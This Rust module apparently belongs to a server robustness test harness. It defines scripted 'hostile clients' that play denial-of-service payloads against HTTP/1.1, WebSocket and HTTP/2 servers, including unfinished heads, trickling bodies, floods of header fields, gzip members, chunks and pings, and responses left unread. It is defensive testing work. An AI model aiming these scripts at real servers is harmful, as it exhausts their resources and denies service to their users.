//! Scripts of hostile clients: what costs a server most for the least that a client has to send.

mod frames;

use std::io;
use std::net::SocketAddr;

use crate::client::Client;
use crate::frame::{flag, kind};
use crate::grpc;
use crate::script::{Script, Step};

/// The largest payload of a frame that every peer takes (RFC 9113 §4.2).
const FRAME_BYTES: usize = 16 * 1024;

/// Bytes of an unfinished message on one stream: less than the first window of HTTP/2.
const UNFINISHED: usize = 60 * 1024;

/// Bytes of an unfinished message on a connection of its own.
const UNFINISHED_LARGE: usize = 512 * 1024;

/// The calls that attacks make.
#[derive(Clone, Debug)]
pub struct Target {
    /// Path of a unary call, POST with JSON.
    pub json: &'static str,
    /// `/package.Service/Method` of a unary call.
    pub unary: &'static str,
    /// `/package.Service/Method` of a server stream.
    pub stream: &'static str,
    /// Its request message, to which it answers much.
    pub message: Vec<u8>,
    /// Target of a GET with a large response.
    pub large: &'static str,
    /// Target of a WebSocket.
    pub websocket: &'static str,
}

/// A hostile client.
#[derive(Clone, Debug)]
pub struct Attack {
    /// The name of the script; those of one rule share it.
    pub name: &'static str,
    kind: Kind,
    /// Played once.
    open: Script,
    /// Played on each of so many streams.
    each: Script,
    streams: u32,
}

#[derive(Clone, Debug)]
enum Kind {
    /// Any bytes.
    Bytes,
    /// Any bytes, and nothing is read.
    Deaf,
    /// HTTP/2 with these SETTINGS.
    Http2(Vec<(u16, u32)>),
}

/// Returns all attacks.
pub fn all(target: &Target) -> Vec<Attack> {
    let mut all = http1(target);
    all.extend(websockets(target));
    all.extend(frames::all(target));
    all
}

// === impl Attack ===

impl Attack {
    /// Opens a connection and plays the script, as far as the server lets it. The attack goes on
    /// until the client is dropped.
    ///
    /// # Errors
    /// The server does not accept the connection.
    pub async fn strike(&self, server: SocketAddr) -> io::Result<Client> {
        let mut client = match &self.kind {
            Kind::Bytes => Client::bytes(server).await?,
            Kind::Deaf => Client::deaf(server).await?,
            Kind::Http2(settings) => Client::http2(server, settings).await?,
        };
        let mut played = client.play(&self.open, 1).await;
        for stream in (1..).step_by(2).take(self.streams as usize) {
            if played.is_err() {
                break;
            }
            played = client.play(&self.each, stream).await;
        }
        Ok(client)
    }

    /// An attack of bytes.
    fn bytes(name: &'static str, bytes: impl Into<Vec<u8>>) -> Self {
        Self {
            name,
            kind: Kind::Bytes,
            open: vec![Step::Bytes(bytes.into())],
            each: Vec::new(),
            streams: 0,
        }
    }

    /// An attack of frames on so many streams.
    fn http2(name: &'static str, open: Script, each: Script, streams: u32) -> Self {
        Self {
            name,
            kind: Kind::Http2(Vec::new()),
            open,
            each,
            streams,
        }
    }

    fn with(self, kind: Kind) -> Self {
        Self { kind, ..self }
    }

    fn then(mut self, step: Step) -> Self {
        self.open.push(step);
        self
    }
}

/// Returns the head of a POST with JSON of this length.
fn post(target: &Target, extra: &str) -> Vec<u8> {
    let path = target.json;
    format!("POST {path} HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\n{extra}\r\n\r\n")
        .into_bytes()
}

fn http1(target: &Target) -> Vec<Attack> {
    let get = |path: &str| format!("GET {path} HTTP/1.1\r\nhost: a\r\n\r\n");
    let body = |length: usize| {
        let mut bytes = post(target, "content-length: 4000000");
        bytes.extend(b"{\"x\":\"");
        bytes.resize(bytes.len() + length, b'a');
        bytes
    };
    let fields: String = (0..2000).map(|at| format!("x-{at}: b\r\n")).collect();
    let long = "a".repeat(60 * 1024);
    let mut members = post(target, "content-encoding: gzip\r\ncontent-length: 60000");
    members.extend(EMPTY_GZIP.repeat(3000));
    let mut chunks = post(target, "transfer-encoding: chunked");
    chunks.extend(b"1\r\na\r\n".repeat(20_000));
    let request = get(target.large).into_bytes();
    vec![
        Attack::bytes("nothing at all", ""),
        Attack::bytes("a head without an end", "GET / HTTP/1.1\r\nhost: a\r\nx"),
        Attack::bytes(
            "a long head without an end",
            format!("GET / HTTP/1.1\r\nx: {long}"),
        ),
        Attack::bytes(
            "a head of many fields",
            format!("GET / HTTP/1.1\r\nhost: a\r\n{fields}\r\n"),
        ),
        Attack::bytes("a long target", get(&format!("/{long}"))),
        Attack::bytes("a body that trickles", body(1)),
        Attack::bytes("a large body without an end", body(UNFINISHED_LARGE)),
        Attack::bytes("tiny chunks", chunks),
        Attack::bytes("a malformed chunk", {
            let mut bytes = post(target, "transfer-encoding: chunked");
            bytes.extend(b"zz\r\n");
            bytes
        }),
        Attack::bytes("empty members of gzip", members),
        Attack::bytes("no HTTP", vec![0xff; 4096]),
        Attack::bytes("TLS without an end", b"\x16\x03\x01\x40\x00\x01".to_vec()),
        Attack::bytes("a half-closed connection", request.clone()).then(Step::Close),
        Attack::bytes("a large response unread", request.clone()).with(Kind::Deaf),
        Attack::bytes("pipelined requests unread", request.repeat(500)).with(Kind::Deaf),
    ]
}

/// A whole member of gzip without content (RFC 1952).
const EMPTY_GZIP: [u8; 20] = [
    0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 3, 0, 0, 0, 0, 0, 0, 0, 0, 0,
];

fn websockets(target: &Target) -> Vec<Attack> {
    let path = target.websocket;
    let shake = format!(
        "GET {path} HTTP/1.1\r\nhost: a\r\nconnection: upgrade\r\nupgrade: websocket\r\n\
         sec-websocket-version: 13\r\nsec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
    );
    // Masked by zeros.
    let frame = |opcode: u8, length: u64, sent: usize| {
        let mut frame = vec![opcode, 0x80 | 127];
        frames_length(&mut frame, length);
        frame.resize(frame.len() + sent, b'a');
        Step::Bytes(frame)
    };
    let opened = |name| Attack::bytes(name, shake.clone());
    let fragment = |opcode: u8| frame(opcode, 1024, 1024);
    vec![
        opened("a WebSocket that says nothing"),
        opened("a WebSocket message without an end").then(frame(0x81, 4_000_000, UNFINISHED_LARGE)),
        opened("WebSocket fragments without an end")
            .then(fragment(1))
            .then(Step::Repeat(500, vec![fragment(0)])),
        opened("empty WebSocket fragments")
            .then(fragment(1))
            .then(Step::Repeat(5000, vec![frame(0, 0, 0)])),
        opened("WebSocket pings").then(Step::Repeat(5000, vec![frame(0x89, 0, 0)])),
        opened("an unmasked WebSocket frame").then(Step::Bytes(b"\x81\x01a".to_vec())),
        opened("a reserved WebSocket opcode").then(frame(0x8f, 0, 0)),
    ]
}

fn frames_length(frame: &mut Vec<u8>, length: u64) {
    frame.extend(length.to_be_bytes());
    frame.extend([0; 4]);
}

/// Returns the head of a request on the call's stream, which goes on.
fn head(path: &str, content_type: &str, extra: &[(&str, &[u8])]) -> Step {
    let fields = [
        (":method", &b"POST"[..]),
        (":scheme", b"http"),
        (":authority", b"a"),
        (":path", path.as_bytes()),
        ("content-type", content_type.as_bytes()),
        ("te", b"trailers"),
    ];
    grpc::headers(&[&fields, extra].concat())
}

/// Returns what makes the windows of the server's SETTINGS count.
fn acknowledge() -> Script {
    let acknowledged = grpc::on_connection(kind::SETTINGS, flag::ACK, Vec::new());
    vec![Step::Sync, acknowledged]
}
